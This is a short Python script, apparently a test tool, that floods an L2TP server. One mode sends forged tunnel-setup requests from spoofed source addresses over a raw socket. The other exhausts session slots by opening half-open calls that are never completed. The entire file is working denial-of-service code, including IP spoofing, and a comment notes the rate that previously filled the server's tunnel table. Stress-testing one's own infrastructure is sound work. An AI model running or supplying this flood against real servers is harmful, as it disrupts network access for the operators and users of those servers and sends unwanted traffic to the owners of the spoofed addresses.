#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""An unauthenticated L2TP flood toward one LNS, for a fixed time.

  l2tpflood.py LNS SECONDS sccrq SPOOF_PREFIX
  l2tpflood.py LNS SECONDS icrq LOCAL_ADDR LOCAL_PORT

sccrq: SCCRQs from forged sources SPOOF_PREFIX.x.y (a /16, e.g. 10.77) through a raw
socket, about 300 a second; what the LNS answers goes to the forged addresses, not here.
icrq: one real tunnel from LOCAL_ADDR:LOCAL_PORT, then Incoming-Call-Requests as fast as the
LNS answers them, never an ICCN (every session stays half-open until the LNS ends it).

Prints one line of counts as key=value. Only LNS is contacted.
"""
import os
import random
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from l2tplac import Lac, avp, u16, u32, ICRQ, ICRP, CDN  # noqa: E402


def checksum(b):
    s = sum(struct.unpack(f"!{len(b) // 2}H", b))
    s = (s >> 16) + (s & 0xffff)
    return ~(s + (s >> 16)) & 0xffff


def sccrq_datagram(src, dst, tid):
    body = (avp(0, u16(1)) + avp(2, b"\x01\x00") + avp(3, u32(3)) + avp(7, b"flood") +
            avp(9, u16(tid)) + avp(10, u16(4)))
    l2tp = struct.pack(">HHHHHH", 0xc802, 12 + len(body), 0, 0, 0, 0) + body
    udp = struct.pack(">HHHH", 1701, 1701, 8 + len(l2tp), 0) + l2tp	# no UDP checksum
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP,
                     0, socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:]
    return ip + udp


def flood_sccrq(lns, end, prefix, n):
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    r = random.Random(1)
    while time.time() < end:
        src = f"{prefix}.{r.randrange(256)}.{r.randrange(1, 255)}"
        raw.sendto(sccrq_datagram(src, lns, r.randrange(1, 65536)), (lns, 0))
        n["sent"] += 1
        time.sleep(1 / 300)	# ~300 a second: what filled 8,192 tunnel slots before


def flood_icrq(lns, end, local, port, n):
    lac = Lac(lns, local, port)
    lac.tunnel()
    sid = 0
    while time.time() < end:
        sid = sid % 65535 + 1
        lac.send(ICRQ, 0, avp(14, u16(sid)) + avp(15, u32(sid)))
        n["sent"] += 1
        m = lac.receive(2)
        while m and m[4] not in (ICRP, CDN):
            m = lac.receive(2)
        if m is None:
            n["unanswered"] += 1
        elif m[4] == ICRP:
            n["connected"] += 1
        else:
            n["refused"] += 1


def main():
    lns, seconds, mode = sys.argv[1], float(sys.argv[2]), sys.argv[3]
    n = {"sent": 0, "connected": 0, "refused": 0, "unanswered": 0}
    end = time.time() + seconds
    if mode == "sccrq":
        flood_sccrq(lns, end, sys.argv[4], n)
    else:
        flood_icrq(lns, end, sys.argv[4], int(sys.argv[5]), n)
    print(" ".join(f"{k}={v}" for k, v in n.items()), flush=True)


if __name__ == "__main__":
    main()
